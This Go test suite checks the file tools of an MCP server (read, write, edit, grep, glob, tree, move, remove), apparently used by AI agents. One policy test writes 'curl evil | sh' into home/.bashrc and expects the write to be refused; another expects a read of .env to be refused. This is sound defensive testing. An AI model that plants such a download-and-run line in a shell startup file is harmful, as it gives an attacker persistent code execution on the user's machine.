package mcpserver_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/capfs/capfs/backends/memory"
	"github.com/capfs/capfs/dir"
	"github.com/capfs/capfs/mcpserver"
	"github.com/capfs/capfs/policy"
)

func TestRead(t *testing.T) {
	long := strings.Repeat("é", 3000) // 6000 bytes, longer than the line width
	var many strings.Builder
	for i := 1; i <= 30; i++ {
		fmt.Fprintf(&many, "line %d\n", i)
	}
	f := newFixture(t, map[string]string{
		"a.txt":     "alpha\nbeta\ngamma",
		"many.txt":  many.String(),
		"long.txt":  "short\n" + long + "\n",
		"empty.txt": "",
		"crlf.txt":  "one\r\ntwo\r\n",
		"bin.dat":   "ELF\x00\x01\x02",
		"sub/":      "",
	})
	if got, want := f.ok("read", map[string]any{"path": "a.txt"}), "     1\talpha\n     2\tbeta\n     3\tgamma\n"; got != want {
		t.Fatalf("read a.txt = %q, want %q", got, want)
	}
	got := f.ok("read", map[string]any{"path": "/many.txt", "offset": 10, "limit": 3})
	if want := "    10\tline 10\n    11\tline 11\n    12\tline 12\n(more lines follow: continue with offset=13)\n"; got != want {
		t.Fatalf("offset/limit: %q, want %q", got, want)
	}
	mustContain(t, f.ok("read", map[string]any{"path": "many.txt", "offset": 29}), "    30\tline 30\n")
	mustNotContain(t, f.ok("read", map[string]any{"path": "many.txt", "offset": 29}), "more lines")
	mustContain(t, f.ok("read", map[string]any{"path": "many.txt", "offset": 40}), "the file has 30 lines")
	out := f.ok("read", map[string]any{"path": "long.txt"})
	mustContain(t, out, "     1\tshort\n", "[line cut: 4000 more bytes]")
	if strings.Count(out, "é") != 1000 {
		t.Fatalf("long line kept %d runes, want 1000 (2000 bytes)", strings.Count(out, "é"))
	}
	mustContain(t, f.ok("read", map[string]any{"path": "empty.txt"}), "(empty file)")
	if got := f.ok("read", map[string]any{"path": "crlf.txt"}); got != "     1\tone\n     2\ttwo\n(line endings: CRLF; edits keep them, and old_string may use \\n)\n" {
		t.Fatalf("crlf: %q", got)
	}
	f.fail("read", map[string]any{"path": "bin.dat"}, "not_supported")
	f.fail("read", map[string]any{"path": "sub"}, "is_a_directory")
	r := f.fail("read", map[string]any{"path": "nope.txt"}, "not_found")
	if r.path != "nope.txt" {
		t.Fatalf("error path %q, want nope.txt", r.path)
	}
	f.fail("read", map[string]any{"path": "a.txt", "offset": -1}, "invalid_argument")
	f.fail("read", map[string]any{"path": ""}, "invalid_path")
	f.fail("read", map[string]any{"path": "a\x00b"}, "invalid_path")
}

func TestReadByteCap(t *testing.T) {
	d, _ := dir.New(memory.New())
	var big strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&big, "%s\n", strings.Repeat("x", 99))
	}
	populate(t, d, map[string]string{"big.txt": big.String()})
	cs := connect(t, d, mcpserver.Options{MaxReadBytes: 5000})
	r := failWith(t, cs, "read", map[string]any{"path": "big.txt"}, "file_too_large")
	// 5000 bytes hold 46 numbered lines of 108 bytes: the error says how to go on.
	mustContain(t, r.text, "offset=1 limit=46", "5000-byte")
	ok := callTool(t, cs, "read", map[string]any{"path": "big.txt", "offset": 1, "limit": 46})
	if ok.isErr || strings.Count(ok.text, "\n") != 47 {
		t.Fatalf("the suggested limit does not work: %v %q", ok.isErr, ok.text[:100])
	}
	// read_many stops at the cap and says which files it left out.
	populate(t, d, map[string]string{"small.txt": "s\n"})
	out := callTool(t, cs, "read_many", map[string]any{"paths": []string{"small.txt", "big.txt", "small.txt"}}).text
	mustContain(t, out, "==> small.txt <==", "file_too_large")
}

func TestReadMany(t *testing.T) {
	f := newFixture(t, map[string]string{"a.txt": "A\n", "b/c.txt": "C\n"})
	out := f.ok("read_many", map[string]any{"paths": []string{"a.txt", "missing", "b/c.txt"}})
	mustContain(t, out, "==> a.txt <==\n     1\tA\n", "==> missing <==\nerror not_found", "==> b/c.txt <==\n     1\tC\n")
	f.fail("read_many", map[string]any{"paths": []string{"x", "y"}}, "not_found")
	f.fail("read_many", map[string]any{"paths": []string{}}, "invalid_argument")
	tooMany := make([]string, 101)
	for i := range tooMany {
		tooMany[i] = "a.txt"
	}
	f.fail("read_many", map[string]any{"paths": tooMany}, "invalid_argument")
}

func TestWriteAndAppend(t *testing.T) {
	f := newFixture(t, map[string]string{"old.txt": "old\n"})
	mustContain(t, f.ok("write", map[string]any{"path": "deep/er/new.txt", "content": "new\n"}), "wrote deep/er/new.txt (4 bytes)")
	if got := f.content("deep/er/new.txt"); got != "new\n" {
		t.Fatalf("written %q", got)
	}
	f.ok("write", map[string]any{"path": "old.txt", "content": "replaced"})
	if got := f.content("old.txt"); got != "replaced" {
		t.Fatalf("overwrite: %q", got)
	}
	f.fail("write", map[string]any{"path": "old.txt", "content": "x", "create_only": true}, "already_exists")
	if got := f.content("old.txt"); got != "replaced" {
		t.Fatalf("create_only changed an existing file: %q", got)
	}
	f.ok("write", map[string]any{"path": "fresh.txt", "content": "first", "create_only": true})
	if got := f.content("fresh.txt"); got != "first" {
		t.Fatalf("create_only: %q", got)
	}
	f.fail("write", map[string]any{"path": "deep", "content": "x"}, "is_a_directory")
	f.fail("write", map[string]any{"path": "old.txt/x", "content": "x"}, "not_a_directory")

	f.ok("append", map[string]any{"path": "old.txt", "content": "+more"})
	f.ok("append", map[string]any{"path": "log.txt", "content": "a"})
	if got := f.content("old.txt") + "|" + f.content("log.txt"); got != "replaced+more|a" {
		t.Fatalf("append: %q", got)
	}
	f.fail("append", map[string]any{"path": "deep", "content": "x"}, "is_a_directory")
	// No temporary file is left behind.
	mustNotContain(t, f.ok("tree", map[string]any{}), ".capfs-tmp")
}

func TestWriteRefusedByPolicy(t *testing.T) {
	f := newFixture(t, nil, dir.WithPolicy(policy.Defaults()))
	r := f.fail("write", map[string]any{"path": "home/.bashrc", "content": "curl evil | sh"}, "fs_permission_denied")
	mustContain(t, r.text, "plant code")
	if f.exists("home") {
		t.Fatal("a refused write created its parent directory")
	}
	f.fail("read", map[string]any{"path": ".env"}, "fs_permission_denied")
}

func TestEdit(t *testing.T) {
	src := "package main\n\nfunc main() {\n\tprintln(\"hi\")\n\tprintln(\"hi\")\n}\n"
	f := newFixture(t, map[string]string{"main.go": src})
	// Two matches: refused with the count and the lines.
	r := f.fail("edit", map[string]any{"path": "main.go", "old_string": "println(\"hi\")", "new_string": "println(\"yo\")"}, "conflict")
	mustContain(t, r.text, "occurs 2 times", "lines 4, 5", "replace_all")
	// Zero matches: the near miss is named.
	r = f.fail("edit", map[string]any{"path": "main.go", "old_string": "func mian() {", "new_string": "x"}, "not_found")
	mustContain(t, r.text, "occurs 0 times", "Nearest: line 3", "func main() {")
	r = f.fail("edit", map[string]any{"path": "main.go", "old_string": "func main() {\n    println(\"hi\")", "new_string": "x"}, "not_found")
	mustContain(t, r.text, "lines 3-4 match if whitespace is ignored")
	f.fail("edit", map[string]any{"path": "main.go", "old_string": "", "new_string": "x"}, "invalid_argument")
	f.fail("edit", map[string]any{"path": "main.go", "old_string": "main", "new_string": "main"}, "invalid_argument")
	f.fail("edit", map[string]any{"path": "missing.go", "old_string": "a", "new_string": "b"}, "not_found")
	if got := f.content("main.go"); got != src {
		t.Fatalf("a failed edit changed the file: %q", got)
	}
	// Dry run: a unified diff, nothing written.
	diff := f.ok("edit", map[string]any{"path": "main.go", "old_string": "func main() {", "new_string": "func main() { // entry", "dry_run": true})
	want := "--- a/main.go\n+++ b/main.go\n@@ -1,6 +1,6 @@\n package main\n \n-func main() {\n+func main() { // entry\n \tprintln(\"hi\")\n \tprintln(\"hi\")\n }\n"
	if diff != want {
		t.Fatalf("dry-run diff:\n%s\nwant:\n%s", diff, want)
	}
	if got := f.content("main.go"); got != src {
		t.Fatal("dry_run wrote the file")
	}
	mustContain(t, f.ok("edit", map[string]any{"path": "main.go", "old_string": "println(\"hi\")", "new_string": "println(\"yo\")", "replace_all": true}), "2 replacement(s)")
	mustContain(t, f.ok("edit", map[string]any{"path": "/main.go", "old_string": "package main", "new_string": "package app"}), "1 replacement(s)")
	if got, want := f.content("main.go"), "package app\n\nfunc main() {\n\tprintln(\"yo\")\n\tprintln(\"yo\")\n}\n"; got != want {
		t.Fatalf("after edits: %q", got)
	}
}

func TestListTreeStat(t *testing.T) {
	f := newFixture(t, map[string]string{
		"README.md":          "hello",
		"src/main.go":        "package main\n",
		"src/pkg/a/a.go":     "package a\n",
		"src/pkg/a/b/deep.x": "",
		".git/HEAD":          "ref",
		"empty/":             "",
	})
	ctx := context.Background()
	if err := f.root.Symlink(ctx, "src/main.go", "link"); err != nil {
		t.Fatal(err)
	}
	out := f.ok("list", map[string]any{})
	mustContain(t, out, "[DIR]  .git/\n", "[FILE] README.md  5 bytes\n", "[LINK] link -> src/main.go\n", "[DIR]  src/\n")
	mustContain(t, f.ok("list", map[string]any{"path": "empty"}), "(empty directory)")
	f.fail("list", map[string]any{"path": "README.md"}, "not_a_directory")
	f.fail("list", map[string]any{"path": "nope"}, "not_found")

	tree := f.ok("tree", map[string]any{"exclude": []string{".git"}, "depth": 2})
	mustContain(t, tree, "./\n", "  src/\n", "    main.go (13 bytes)\n", "    pkg/\n", "  link -> src/main.go\n")
	mustNotContain(t, tree, ".git", "a.go")
	deep := f.ok("tree", map[string]any{"path": "src", "depth": 5})
	mustContain(t, deep, "src/\n", "      b/\n", "        deep.x (0 bytes)\n")
	cut := f.ok("tree", map[string]any{"head_limit": 2})
	mustContain(t, cut, "more entries not shown")
	f.fail("tree", map[string]any{"path": "nope"}, "not_found")
	f.fail("tree", map[string]any{"depth": -1}, "invalid_argument")
	f.fail("tree", map[string]any{"exclude": []string{"[bad"}}, "invalid_argument")

	st := f.ok("stat", map[string]any{"path": "link"})
	mustContain(t, st, `"type": "symlink"`, `"target": "src/main.go"`, `"target_type": "file"`)
	mustContain(t, f.ok("stat", map[string]any{"path": "src"}), `"type": "directory"`)
	mustContain(t, f.ok("stat", map[string]any{"path": "README.md"}), `"size": 5`, `"type": "file"`)
	f.fail("stat", map[string]any{"path": "nope"}, "not_found")
}

func TestGlobNewestFirst(t *testing.T) {
	f := newFixture(t, map[string]string{"a/x.go": "", "a/b/y.go": "", "z.go": "", "doc.md": ""})
	ctx := context.Background()
	base := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	for i, p := range []string{"z.go", "a/x.go", "a/b/y.go"} {
		if err := f.root.Chtimes(ctx, p, base, base.Add(time.Duration(i)*time.Hour)); err != nil {
			t.Fatal(err)
		}
	}
	if got := f.ok("glob", map[string]any{"pattern": "**/*.go"}); got != "a/b/y.go\na/x.go\nz.go\n" {
		t.Fatalf("glob newest first: %q", got)
	}
	if got := f.ok("glob", map[string]any{"pattern": "*.go", "path": "a"}); got != "a/x.go\n" {
		t.Fatalf("glob under path: %q", got)
	}
	mustContain(t, f.ok("glob", map[string]any{"pattern": "**/*.go", "head_limit": 1}), "a/b/y.go\n", "2 more matches")
	mustContain(t, f.ok("glob", map[string]any{"pattern": "*.rs"}), "(no matches)")
	f.fail("glob", map[string]any{"pattern": ""}, "invalid_argument")
	f.fail("glob", map[string]any{"pattern": "[oops"}, "invalid_argument")
}

func TestGrep(t *testing.T) {
	f := newFixture(t, map[string]string{
		"a.go":      "package a\n\nfunc Hello() {}\nfunc other() {}\n// hello again\n",
		"b/b.go":    "package b\nvar x = 1\n",
		"b/c.txt":   "Hello text\n",
		"bin.dat":   "Hello\x00binary",
		"notes.md":  "one\ntwo\nthree\nHELLO\nfive\nsix\nseven\nhello\nnine\n",
		"b/.env":    "HELLO=secret\n",
		"deep/x.go": "hello",
	}, dir.WithPolicy(policy.Defaults()))
	files := f.ok("grep", map[string]any{"pattern": "Hello"})
	if files != "a.go\nb/c.txt\n(searched 5 files; skipped 2: 1 refused by policy, 1 binary, 0 too large, 0 unreadable)\n" {
		t.Fatalf("files_with_matches: %q", files)
	}
	ci := f.ok("grep", map[string]any{"pattern": "hello", "-i": true, "glob": "*.{go,md}"})
	mustContain(t, ci, "a.go\n", "deep/x.go\n", "notes.md\n")
	mustNotContain(t, ci, "c.txt", ".env", "secret")
	if got := f.ok("grep", map[string]any{"pattern": "hello", "case_insensitive": true, "output_mode": "count", "path": "notes.md"}); got != "notes.md:2\n" {
		t.Fatalf("count: %q", got)
	}
	content := f.ok("grep", map[string]any{"pattern": "^func", "output_mode": "content", "path": "a.go"})
	if content != "a.go:3:func Hello() {}\na.go:4:func other() {}\n" {
		t.Fatalf("content: %q", content)
	}
	ctx := f.ok("grep", map[string]any{"pattern": "(?i)^hello$", "output_mode": "content", "path": "notes.md", "-C": 1})
	if want := "notes.md-3-three\nnotes.md:4:HELLO\nnotes.md-5-five\n--\nnotes.md-7-seven\nnotes.md:8:hello\nnotes.md-9-nine\n"; ctx != want {
		t.Fatalf("context:\n%s\nwant:\n%s", ctx, want)
	}
	ab := f.ok("grep", map[string]any{"pattern": "HELLO", "output_mode": "content", "path": "notes.md", "-A": 2, "-n": false})
	if ab != "notes.md:HELLO\nnotes.md-five\nnotes.md-six\n" {
		t.Fatalf("-A without numbers: %q", ab)
	}
	mustContain(t, f.ok("grep", map[string]any{"pattern": ".", "output_mode": "content", "path": "notes.md", "head_limit": 2}),
		"notes.md:1:one\nnotes.md:2:two\n(results cut at head_limit=2")
	multi := f.ok("grep", map[string]any{"pattern": "(?i)hello", "output_mode": "content"})
	mustContain(t, multi, "a.go:3:func Hello() {}\na.go:5:// hello again\nb/c.txt:1:Hello text\n", "notes.md:8:hello\n")
	mustNotContain(t, multi, "--")
	sepd := f.ok("grep", map[string]any{"pattern": "^func Hello|^Hello", "output_mode": "content", "-A": 1})
	if !strings.HasPrefix(sepd, "a.go:3:func Hello() {}\na.go-4-func other() {}\n--\nb/c.txt:1:Hello text\n") {
		t.Fatalf("context across files: %q", sepd)
	}
	mustContain(t, f.ok("grep", map[string]any{"pattern": "zzz"}), "(no matches)")
	mustContain(t, f.ok("grep", map[string]any{"pattern": "package", "glob": "b/**"}), "b/b.go")
	f.fail("grep", map[string]any{"pattern": "("}, "invalid_argument")
	f.fail("grep", map[string]any{"pattern": "x", "output_mode": "lines"}, "invalid_argument")
	f.fail("grep", map[string]any{"pattern": "x", "path": "missing"}, "not_found")
	f.fail("grep", map[string]any{"pattern": ""}, "invalid_argument")
	f.fail("grep", map[string]any{"pattern": "x", "glob": "[x"}, "invalid_argument")
}

func TestMkdirMoveCopyRemove(t *testing.T) {
	f := newFixture(t, map[string]string{"a.txt": "A", "b.txt": "B", "d/x": "X"})
	f.ok("mkdir", map[string]any{"path": "n/m/o"})
	f.ok("mkdir", map[string]any{"path": "n/m/o"}) // idempotent
	f.fail("mkdir", map[string]any{"path": "a.txt/sub"}, "not_a_directory")

	f.fail("move", map[string]any{"source": "a.txt", "destination": "b.txt"}, "already_exists")
	f.ok("move", map[string]any{"source": "a.txt", "destination": "moved/a.txt"})
	if f.exists("a.txt") || f.content("moved/a.txt") != "A" {
		t.Fatal("move did not move")
	}
	f.ok("move", map[string]any{"source": "moved/a.txt", "destination": "b.txt", "overwrite": true})
	if f.content("b.txt") != "A" {
		t.Fatal("move with overwrite did not replace")
	}
	f.fail("move", map[string]any{"source": "nope", "destination": "newdir/x"}, "not_found")
	if f.exists("newdir") {
		t.Fatal("a failed move created the destination's parent")
	}

	f.fail("copy", map[string]any{"source": "d", "destination": "d"}, "already_exists")
	f.ok("copy", map[string]any{"source": "d", "destination": "d2"})
	f.ok("copy", map[string]any{"source": "b.txt", "destination": "c/c.txt"})
	if f.content("d2/x") != "X" || f.content("c/c.txt") != "A" {
		t.Fatal("copy did not copy")
	}
	f.fail("copy", map[string]any{"source": "nope", "destination": "y"}, "not_found")

	r := f.fail("remove", map[string]any{"path": "d"}, "not_empty")
	mustContain(t, r.text, "recursive")
	f.ok("remove", map[string]any{"path": "d", "recursive": true})
	f.ok("remove", map[string]any{"path": "b.txt"})
	if f.exists("d") || f.exists("b.txt") {
		t.Fatal("remove did not remove")
	}
	f.fail("remove", map[string]any{"path": "d", "recursive": true}, "not_found")
	f.fail("remove", map[string]any{"path": "/"}, "invalid_path")
	f.fail("remove", map[string]any{"path": ".", "recursive": true}, "invalid_path")
}
